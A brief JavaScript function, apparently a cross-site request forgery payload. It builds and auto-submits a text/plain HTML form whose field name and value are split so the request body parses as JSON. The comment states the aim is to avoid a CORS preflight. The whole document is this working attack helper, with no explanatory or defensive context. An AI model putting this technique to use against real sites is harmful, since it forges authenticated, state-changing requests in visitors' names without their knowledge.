// A form that a visitor's click would send, whose body reads as JSON: no preflight is asked for it.
({ address, body }) => {
  const form = Object.assign(document.createElement("form"), { method: "POST", action: address, enctype: "text/plain" });
  const field = document.createElement("input");
  field.name = `${body.slice(0, -1)}, "padding": "`;
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}
